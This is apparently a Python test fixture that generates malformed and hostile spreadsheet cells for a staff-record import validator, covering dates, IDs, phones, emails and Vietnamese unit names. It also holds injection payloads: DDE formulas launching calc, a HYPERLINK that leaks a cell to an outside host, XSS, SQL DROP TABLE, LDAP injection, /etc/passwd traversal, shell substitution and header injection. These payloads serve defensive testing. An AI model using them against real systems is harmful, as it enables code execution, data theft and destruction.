"""Cells that hold dates, numbers, codes and addresses, and cells that hold code of any language."""

from __future__ import annotations

from collections.abc import Iterator

from tests.support.abuse_corpus.verdicts import Case, Told, cell, joiner, left_out, refused

BORN = "1980-02-03"
NO_KIND = left_out("contract_kind_unknown", contract_kind=None)
# What nobody needs, or what others tell just as well.
_NOT_NEEDED = frozenset(
    {
        "staff_code", "birth_date", "national_id", "phone", "recovery_email", "contract_kind",
        "contract_end",
    }
)  # fmt: skip
# What a text of another language does in a cell of each column that has a shape.
_REFUSALS = {
    "full_name": "name_letters", "staff_code": "staff_code_shape", "birth_date": "date_unreadable",
    "national_id": "id_shape", "phone": "phone_shape", "recovery_email": "email_shape",
    "contract_kind": "contract_kind_unknown", "contract_end": "date_unreadable", "unit": "unit_unknown",
    "sub_unit": "unit_unknown",
}  # fmt: skip
_CODE = {
    "formula": "=1+1", "hyperlink": '=HYPERLINK("http://xa.example?"&A1,"An")',
    "command": "=cmd|' /C calc'!A0",
    "dde": '=DDE("cmd";"/C calc";"x")', "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "full-width-formula": "＝1+1", "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": '"><svg/onload=alert(1)>', "template": "{{7*7}}", "format": "{0.__class__}", "printf": "%s%n%x",
    "sql": "'; DROP TABLE officials; --", "sql-or": "x' OR '1'='1", "filter": "*)(uid=*))(|(uid=*",
    "dn": "cn=An,dc=kontum,dc=example", "path": "../../etc/passwd", "shell": "$(touch /tmp/an)",
    "url": "javascript:alert(1)",
}  # fmt: skip
_BROKEN_LINES = {
    "mail-header": "An\r\nBcc: x@mail.example", "log": "An\n2026-01-01 INFO signed_in",
    "ldif": "An\n dn: cn=x",
}  # fmt: skip
_UNSEEN = {"rlo": "\u202e", "lri": "\u2066", "rlm": "\u200f", "escape": "\x1b[31m", "delete": "\x7f"}


def cases() -> Iterator[Case]:
    """All of them."""
    yield from _code()
    yield from _unseen()
    yield from _births()
    yield from _contract_ends()
    yield from _national_ids()
    yield from _phones()
    yield from _emails()
    yield from _staff_codes()
    yield from _free_text()


def _told(field: str, code: str) -> Told:
    """What comes of a row whose cell of that column is none."""
    return left_out(code) if field in _NOT_NEEDED else refused(code)


def _code() -> Iterator[Case]:
    for label, payload in _CODE.items():
        everywhere = label in ("formula", "command", "script", "sql", "path", "template")
        for field, code in _REFUSALS.items() if everywhere else [("full_name", "name_letters")]:
            yield cell(f"{field}-{label}", _told(field, code), **{field: payload})
        yield cell(f"post-{label}", joiner(post=payload), post=payload)
    for label, payload in _BROKEN_LINES.items():
        for field in ("full_name", "staff_code", "recovery_email", "unit"):
            yield cell(f"{field}-{label}", _told(field, _REFUSALS[field]), **{field: payload})
        yield cell(f"post-{label}", joiner(post=" ".join(payload.split())), post=payload)


def _unseen() -> Iterator[Case]:
    typed = {
        "staff_code": "AB-2", "birth_date": "03/02/1980", "national_id": "000080000001",
        "phone": "0100123456", "recovery_email": "an@mail.example",
    }  # fmt: skip
    for label, sign in _UNSEEN.items():
        for field, value in typed.items():
            yield cell(
                f"{field}-{label}",
                _told(field, _REFUSALS[field]),
                **{field: f"{value[:4]}{sign}{value[4:]}"},
            )
        code = "text_control" if label in ("escape", "delete") else "text_format"
        yield cell(f"post-{label}", left_out(code, post=None), post=f"Sở{sign} Y tế")
        for field in ("unit", "sub_unit"):
            yield cell(f"{field}-{label}", refused(code), **{field: f"Sở{sign} Y tế"})
        yield cell(
            f"contract_kind-{label}",
            left_out("contract_kind_unknown", contract_kind=None)
            if label == "escape"
            else joiner(contract_kind="public_employee"),
            contract_kind=f"Viên{sign} chức",
        )


def _births() -> Iterator[Case]:
    for typed in (
        "3/2/1980", "03-02-1980", "3.2.1980", "03 / 02 / 1980", "'03/02/1980", "1980-02-03", "1980/2/3",
        "03/02/1980 0:00", " 03/02/1980\u00a0",
    ):  # fmt: skip
        yield _birth(typed, joiner(birth_date=BORN))
    # A true date beside text with the day first: day and month may be exchanged.
    for typed in ("1980-02-03 00:00:00", "1980-02-03T00:00:00"):
        yield _birth(typed, Told("question", values={"birth_date": BORN}))
    yield _birth("29254", Told("question", notices=("date_serial",), values={"birth_date": BORN}))
    for typed, day in (("32874", "1990-01-01"), ("29280", "1980-02-29")):
        yield _birth(typed, joiner("date_serial", birth_date=day))
    yield _birth("29/02/2000", joiner(birth_date="2000-02-29"))
    for code, listed in {
        "date_two_digit_year": ("1/2/20", "03/02/30"),
        "date_impossible": (
            "2/30/1980", "30/02/80",
            "29/02/1981", "29/02/1900", "31/04/1980", "30/02/1980", "1/0/1980",
            "28/13/1980", "32/12/1980", "1980-13-01", "1980-02-30", "0000-01-01", "00/00/0000",
        ),
        "date_unreadable": (
            "ngày 3 tháng 2 năm 1980", "03021980", "3/2", "3/2-1980/5", "١٣/٠٢/١٩٨٠",
            "０３/０２/１９８０",
            "03–02–1980", "1980-02-03 04:05:00", "########", "#VALUE!", "29254.5", "2.9254E+04", "-29254",
            "03/02/1980 05/06/1981", "03/02/1980?", "không rõ", "TRUE", "3 Feb 1980", "Tháng 2/1980",
            "12:30:00",
            "03//02//1980", "1980-02-03Z", "1e5",
        ),
        "date_future": ("01/01/2200", "31/12/9999", "99999"),
        "age_unlikely": ("01/01/1899", "01/01/0001", "31/12/1900", "10000", "01/01/2020"),
    }.items():  # fmt: skip
        for typed in listed:
            yield _birth(typed, left_out(code, birth_date=None))
    for typed, day in (
        ("1/2/90", "1990-02-01"), ("03/02/80", BORN), ("3-2-80", BORN), ("31.12.00", "2000-12-31"),
    ):  # fmt: skip
        yield _birth(typed, joiner("date_year_by_age", birth_date=day))
    for typed, day in (("02/28/1980", "1980-02-28"), ("12/31/1980", "1980-12-31")):
        yield _birth(typed, joiner("date_month_first", birth_date=day))
    for typed, year in (
        ("1980", "1980"),
        ("2000", "2000"),
        ("00/00/1980", "1980"),
        ("0/1/1980", "1980"),
        ("02/1980", "1980"),
    ):
        yield _birth(typed, joiner("birth_year_only", birth_date=None, birth_year=year))


def _birth(typed: str, told: Told) -> Case:
    return cell(f"birth-{typed!a}", told, birth_date=typed)


def _contract_ends() -> Iterator[Case]:
    for typed, told in (
        ("31/12/2027", joiner(contract_end="2027-12-31")),
        ("46752", joiner("date_serial", contract_end="2027-12-31")),
        ("31/12/27", joiner("date_century", contract_end="2027-12-31")),
        ("31/11/2027", left_out("date_impossible", contract_end=None)),
        # The birth beside it may have the month first, too.
        ("12/31/2027", Told("question", (), ("date_month_first",), {"contract_end": "2027-12-31"})),
        ("2027", left_out("date_year_only", contract_end=None)),
        ("#REF!", left_out("date_unreadable")), ("vô thời hạn", left_out("date_unreadable")),
    ):  # fmt: skip
        yield cell(f"contract-end-{typed}", told, contract_end=typed)


def _national_ids() -> Iterator[Case]:
    # The plan keeps the last four digits only.
    for typed, told in (
        ("000080000001", joiner(national_id_last4="0001")),
        ("000 080 000 002", joiner(national_id_last4="0002")),
        ("000.080.000.003", joiner(national_id_last4="0003")),
        ("000-080-000-004", joiner(national_id_last4="0004")),
        ("'000080000005", joiner(national_id_last4="0005")), ("233456789", joiner(national_id_last4="6789")),
        ("62080000006", joiner("id_zero_restored", national_id_last4="0006")),
        ("1080000007", joiner("id_zero_restored", national_id_last4="0007")),
        ("000081000008", joiner("id_year_differs", national_id_last4="0008")),
        ("000280000009", joiner("id_year_differs", national_id_last4="0009")),
        ("000080000011.0", joiner(national_id_last4="0011")),
        ("233456788.0", joiner(national_id_last4="6788")),
        ("62080000012.0", joiner("id_zero_restored", national_id_last4="0012")),
        ("\u00a0000080000010 ", joiner(national_id_last4="0010")),
    ):  # fmt: skip
        yield cell(f"id-{typed!a}", told, national_id=typed)
    for typed in ("7.9099E+10", "7,9099E+10", "7.9099e10", "6E+10", "8E+08", "7.9099E10"):
        yield cell(f"id-{typed}", left_out("id_scientific", national_id_last4=None), national_id=typed)
    for typed in (
        "12345678", "0000800000012", "00008000000x", "٠٠٠٠٨٠٠٠٠٠٠١", "０00080000001", "0" * 400,
        "000080000001.5", "233456789.5", "233456789.000", "62080000006,5",
        "không có", "000080000001 / 000080000002", "#N/A", "79,099,000,001", "000080000001\u200b",
        "0x00008000001", "1", "00008000000O",
    ):  # fmt: skip
        yield cell(f"id-{typed[:20]!a}", left_out("id_shape", national_id_last4=None), national_id=typed)


def _phones() -> Iterator[Case]:
    for typed in (
        "0100123456", "0100.123.456", "0100 123 456", "0100-123-456", "(0100) 123456", "+84100123456",
        "+84 100 123 456", "(+84) 100.123.456", "0084100123456", "84100123456", "84.100.123.456",
        "'0100123456",
        "+84 (0) 100 123 456", "0100123456.0", "0100\u00a0123\u00a0456",
    ):  # fmt: skip
        yield cell(f"phone-{typed!a}", joiner(phone="0100123456"), phone=typed)
    yield cell("phone-float", joiner("phone_zero_restored", phone="0100123456"), phone="100123456.0")
    yield cell("phone-lost-zero", joiner("phone_zero_restored", phone="0100123456"), phone="100123456")
    for typed in (
        "0100123456/0100654321",
        "0100123456; 0100654321",
        "0100123456 - 0100654321",
        "0100123456 hoặc 0100654321",
    ):
        yield cell(f"phone-{typed}", joiner("phone_first_taken", phone="0100123456"), phone=typed)
    for typed in ("+856 20 555 1234", "00856 20 555 1234"):
        yield cell(f"phone-{typed}", joiner(phone="+856205551234"), phone=typed)
    for typed in (
        "0100", "xin hỏi", "1.00E+08", "1,00123E+08", "0100123456789", "０１００１２３４５６", "٠١٠٠١٢٣٤٥٦",
        "#REF!",
        "0100123456 (Zalo)", "0100123456x12", "100123456.5", "+84", "++84100123456", "TRUE", "0" * 60,
        "0100123456\u200b", "tel:0100123456",
    ):  # fmt: skip
        yield cell(f"phone-{typed[:20]!a}", left_out("phone_shape", phone=None), phone=typed)


def _emails() -> Iterator[Case]:
    longest = f"{'a' * 64}@{'b' * 60}.{'c' * 60}.{'d' * 60}.example"
    for typed, stored in (
        ("an@mail.example", "an@mail.example"), ("An.Nguyen+1@Mail.Example", "An.Nguyen+1@mail.example"),
        (" an@mail.example\n", "an@mail.example"), (f"{'a' * 64}@mail.example", f"{'a' * 64}@mail.example"),
        (longest[:254], longest[:254]),
    ):  # fmt: skip
        yield cell(f"email-{typed[-30:]!r}", joiner(recovery_email=stored), recovery_email=typed)
    for typed in (
        "an @mail.example",
        "an@ mail.example",
        "an@mail .example",
        "an@mail. example",
        "an\n@mail.example",
    ):
        yield cell(
            f"email-{typed!r}",
            joiner("email_blanks_removed", recovery_email="an@mail.example"),
            recovery_email=typed,
        )
    for typed in (
        "an", "@", "an@", "@mail.example", "an@localhost", "an@mail,example", "an@mail..example",
        "an@mail.example.",
        ".an@mail.example", "an.@mail.example", "a..n@mail.example", "a@b@mail.example", "<an@mail.example>",
        "An <an@mail.example>", '"an"@mail.example', "án@mail.example", "an@thư.example", "an@[192.0.2.1]",
        "an@192.0.2.1", "an@mail.example;binh@mail.example", "an@mail.example, binh@mail.example",
        "an@mail.example\nbinh@mail.example", "an@mail.example Zalo", "hoac an@mail.example",
        "1. an@mail.example",
        "mailto:an@mail.example", "an(a)mail.example", "an@mail.example\u200b", "аn@mail.example",
        "an@-mail.example",
        "an@mail_x.example", f"{'a' * 65}@mail.example", f"an@{'b' * 64}.example", f"an@{'b.' * 130}example",
        "#N/A",
        "an@mail.example%0aBcc:x@mail.example", "không có",
    ):  # fmt: skip
        yield cell(f"email-{typed[:36]!a}", left_out("email_shape"), recovery_email=typed)


def _staff_codes() -> Iterator[Case]:
    for typed, stored in (
        ("KT-00.1/a", "KT-00.1/a"), ("'00123", "00123"), (" AB-9 ", "AB-9"), ("K" * 32, "K" * 32), ("0", "0"),
        ("NULL", "NULL"), ("nan", "nan"), ("1.25", "1.25"), ("12", "12"),
    ):  # fmt: skip
        yield cell(f"code-{typed!r}", joiner(staff_code=stored), staff_code=typed)
    for typed in (
        "KT 01", "K" * 33, "1.00E+05", "#REF!", "KT-Ð1", "mã số", "КТ-1", "ＡＢ-1", "AB_1", "AB\u200b-2",
        "-AB1",
        "AB;1", "AB,1", "AB\n1", "*", "AB-1\u00a0x", "'=1",
    ):  # fmt: skip
        yield cell(f"code-{typed!a}", left_out("staff_code_shape", staff_code=None), staff_code=typed)
    nobody = {"staff_code": "", "birth_date": "", "national_id": ""}
    yield cell("nothing-to-tell-apart", refused("identity_missing"), **nobody)
    yield cell("only-a-birth", joiner(birth_date=BORN), staff_code="")
    yield cell("only-an-id", joiner(national_id_last4="6789"), **{**nobody, "national_id": "233456789"})
    yield cell("only-a-code", joiner(staff_code="AB-2"), birth_date="")


def _free_text() -> Iterator[Case]:
    for label, typed, stored in (
        ("line-break", "Trưởng\nphòng", "Trưởng phòng"), ("blanks", "  Trưởng   phòng ", "Trưởng phòng"),
        ("no-break", "Trưởng\u00a0phòng", "Trưởng phòng"),
        ("unseen", "Tr\u200bưởng\ufeff phòng", "Trưởng phòng"),
        ("decomposed", "Tru\u031bo\u031b\u0309ng phòng", "Trưởng phòng"),
        ("emoji", "Trưởng phòng \u2764", "Trưởng phòng \u2764"),
        ("eth", "Ðội trưởng", "Đội trưởng"), ("255", "a" * 255, "a" * 255), ("true", "TRUE", "TRUE"),
        ("quotes", 'Tổ "Một cửa"', 'Tổ "Một cửa"'), ("filler", "Kế toán\u3164", "Kế toán"),
    ):  # fmt: skip
        yield cell(f"post-{label}", joiner(post=stored), post=typed)
    for label, typed, code in (
        ("256", "a" * 256, "text_too_long"), ("30000", "a" * 30_000, "text_too_long"),
        ("lost", "Tr\ufffdng phòng", "text_unreadable"), ("private", "\ue123 phòng", "text_unreadable"),
        ("storm", "a" + "\u0301" * 1000, "text_marks"), ("control", "Trưởng\x01phòng", "text_control"),
        ("tag", "Phòng\U000e0041", "text_format"),
    ):  # fmt: skip
        yield cell(f"post-{label}", left_out(code, post=None), post=typed)
    for error in ("#N/A", "#REF!", "#VALUE!", "#DIV/0!", "#NAME?", "#NULL!", "#NUM!", "#SPILL!", "Err:502"):
        for field in ("post", "unit"):
            told = left_out("cell_error", post=None) if field == "post" else refused("cell_error")
            yield cell(f"{field}-{error}", told, **{field: error})
    for typed, told in (
        ("Công chức", joiner(contract_kind="civil_servant")),
        ("VIÊN CHỨC", joiner(contract_kind="public_employee")),
        ("HĐLĐ", joiner(contract_kind="contract")),
        *((none, joiner(contract_kind=None)) for none in ("\u00a0", "\u200b", "–", ".", " - ", "\n")),
        ("-", joiner(contract_kind=None)),
        *((word, NO_KIND) for word in ("người quen", "#N/A", "####", "68")),
    ):  # fmt: skip
        yield cell(f"kind-{typed!a}", told, contract_kind=typed)
    for typed, told in (
        ("SỞ Y TẾ", joiner()), ("so y te", joiner()), ("syt", joiner()), ("Sở Y  tế", joiner()),
        ("Sở Thần bí", refused("unit_unknown")), ("?", refused("unit_unknown")),
        ("'Sở Y tế", joiner()), ("0", refused("unit_unknown")),
    ):  # fmt: skip
        yield cell(f"unit-{typed!a}", told, unit=typed)
